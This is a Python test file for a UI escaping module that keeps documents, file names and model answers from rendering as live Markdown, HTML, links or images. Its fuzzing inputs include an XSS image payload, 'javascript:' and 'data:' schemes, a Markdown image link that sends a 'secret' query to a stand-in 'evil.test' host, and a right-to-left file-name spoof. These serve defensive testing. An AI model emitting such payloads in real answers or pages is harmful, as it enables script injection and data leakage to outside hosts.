"""Nothing in a document, a file name or a model's answer becomes markup, a link, an image or a directive."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from unicodedata import east_asian_width

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from ui.safe import Code, Prose, answer_parts, escape_html, escape_markdown, name_help, safe_markdown, shown_name, whole_name

BITS = (
    *(
        "\\",
        "[",
        "]",
        "(",
        ")",
        "!",
        "`",
        "``",
        "```",
        "~~~",
        "<img src=x onerror=alert(1)>",
        "</script>",
        "http://evil.test/",
        "$",
        "$$",
    ),
    *(
        ":red[",
        ":material/delete:",
        ":smile:",
        "[1]",
        "[1](http://e.t)",
        "[1]: http://e.t",
        "\n",
        "\n\n",
        "    ",
        "|",
        "-",
        "# ",
        "* ",
    ),
    *(
        "&#91;",
        "&lt;",
        "{",
        "}",
        "中文",
        "word",
        "1",
        "2",
        ":",
        "^",
        "www.evil.test",
        "data:text/html,",
        "javascript:",
        "a.b@evil.test",
        "https://evil.test",
        "Www.",
        "@evil.test",
    ),
)
NASTY = st.lists(st.sampled_from(BITS), max_size=20).map("".join)
PARSER = MarkdownIt("commonmark").enable("table")
ADDRESS = re.compile(r"(?:https?://|www(?=\.))[-.\w]+|[-.\w+]+@[-\w]+(?:\.[-\w]+)+", re.IGNORECASE | re.ASCII)
"""What mdast-util-gfm-autolink-literal, which Streamlit uses, makes a link of in a text that has been read, escaped or not."""


def _tokens(markdown: str) -> list[Token]:
    return [inner for token in PARSER.parse(markdown) for inner in [token, *(token.children or [])]]


def _texts(markdown: str) -> list[str]:
    """The texts of the Markdown as they are shown, parted at all that is no text."""
    signs = (token.content if token.type in {"text", "text_special"} else "\n" for token in _tokens(markdown))
    return "".join(signs).split("\n")


@given(NASTY | st.text())
def test_an_answer_loads_nothing_and_links_nowhere(text: str) -> None:
    for part in answer_parts(text, {1, 2}):
        if isinstance(part, Prose):
            kinds = {token.type for token in _tokens(part.markdown)}
            assert not kinds & {"image", "link_open", "html_inline", "html_block"}
            assert not any(map(ADDRESS.search, _texts(part.markdown)))


@given(NASTY)
def test_the_only_live_brackets_of_an_answer_are_our_badges(text: str) -> None:
    markdown = safe_markdown(text.replace("```", ""), {1, 2})
    without_badges = re.sub(r" :blue-badge\[[12]\](?![({])", "", markdown)
    for match in re.finditer(r"(\\*)[\[\]$<]", without_badges):
        assert len(match.group(1)) % 2 == 1, markdown


@given(NASTY | st.text())
def test_escaped_markdown_shows_the_text_itself(text: str) -> None:
    tokens = _tokens(escape_markdown(text))
    assert {token.type for token in tokens} <= {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
        "text_special",
        "hardbreak",
    }
    shown = "".join(token.content for token in tokens if token.type in {"text", "text_special"})
    assert not any(map(ADDRESS.search, _texts(escape_markdown(text))))
    assert _letters(shown) == _letters(text.replace("\x00", "\ufffd"))


@given(NASTY | st.text(st.characters(exclude_categories=())))
def test_escaped_html_is_one_text(text: str) -> None:
    seen: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            raise AssertionError(f"a tag came through: {tag}")

        def handle_data(self, data: str) -> None:
            seen.append(data)

    reader = Reader(convert_charrefs=True)
    reader.feed(escape_html(text))
    reader.close()
    assert _letters("".join(seen)) == _letters(escape_html_inverse(text))


def escape_html_inverse(text: str) -> str:
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace").replace("\x00", "\ufffd")


def _letters(text: str) -> str:
    return "".join(text.replace("\u2060", "").split()).replace("\xa0", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It takes 30 days [1].", "It takes 30 days :blue-badge[1]."),
        ("两周 [1][2]。", "两周 :blue-badge[1] :blue-badge[2]。"),
        ("as [9] says", r"as \[9\] says"),
        ("[1](http://evil.test)", " :blue-badge[1]\\(http\\://\u2060evil.test)"),
        ("![x](http://evil.test/?q=secret)", "!\\[x\\](http\\://\u2060evil.test/?q=secret)"),
        ("[1]: http://evil.test", " :blue-badge[1]: http\\://\u2060evil.test"),
        ("see www.evil.test or a@evil.test", "see www\u2060.evil.test or a@\u2060evil.test"),
        (r"http\://e.t, www\.e.t, a\@e.t", "http\\://\u2060e.t, www\u2060\\.e.t, a\\@\u2060e.t"),
        ("run `curl https://e.t/x`", "run `curl https://e.t/x`"),
        ("| `www.e.t` |", "| www\u2060\\.e\\.t |"),
        ("| a | b |\n|:--|--:|\n| 1 | 2 |", "| a | b |\n|:--|--:|\n| 1 | 2 |"),
        ("**bold** costs $5 and $6", r"**bold** costs \$5 and \$6"),
        ("use `pip install x` or `a[0]`", r"use `pip install x` or a\[0\]"),
        (r"\[1\]", " :blue-badge[1]"),
    ],
)
def test_an_answer_keeps_its_markdown_and_gets_badges(text: str, shown: str) -> None:
    assert answer_parts(text, {1, 2}) == [Prose(shown)]


def test_a_fenced_block_is_kept_apart_as_it_is_even_before_it_is_closed() -> None:
    assert answer_parts("Run:\n```python\na[0] = '![x](y)'\n```\nDone [1]", {1}) == [
        Prose("Run:"),
        Code("a[0] = '![x](y)'", "python"),
        Prose("Done :blue-badge[1]"),
    ]
    assert answer_parts("~~~\nx = [1]", {1}) == [Code("x = [1]", "text")]


def test_a_name_shows_no_trick() -> None:
    assert shown_name("invoice\u202efdp.exe") == "invoice\ufffdfdp.exe"
    assert shown_name("a\nb\x00.txt") == "a\ufffdb\ufffd.txt"
    assert shown_name("报告 🙂.md") == "报告 🙂.md"


def test_a_long_name_is_shortened_in_the_middle_and_keeps_its_suffix() -> None:
    assert shown_name("x" * 300 + ".pdf") == "x" * 42 + "…" + "x" * 17 + ".pdf"
    assert shown_name("报告" * 80 + "第三版.docx", columns=30) == "报告" * 5 + "…三版.docx"
    assert shown_name("x" * 60 + ".pdf") == "x" * 60 + ".pdf"
    assert name_help("x" * 60 + ".pdf") is None
    assert name_help("_" * 300 + ".pdf") == r"\_" * 300 + r"\.pdf"


@given(st.text(max_size=200), st.integers(8, 80))
def test_a_shown_name_is_never_wider_than_asked(name: str, columns: int) -> None:
    shown = shown_name(name, columns=columns)
    assert sum(2 if east_asian_width(ch) in "WF" else 1 for ch in shown) <= columns
    assert shown == whole_name(name) or "…" in shown


@pytest.mark.parametrize(
    "text", ["看 https://evil.test/路径。", "见 www.evil.test", "写信给 a.b@evil.test", "see http://evil.test"]
)
def test_an_address_is_text_that_a_browser_still_understands(text: str) -> None:
    shown = "".join(_texts(escape_markdown(text)))
    assert ADDRESS.search(text)
    assert not ADDRESS.search(shown)
    assert shown.replace("\u2060", "") == text
    assert re.search("[/@]\u2060evil|www\u2060[.]evil", shown), "the joiner is in the host, where it is mapped to nothing"
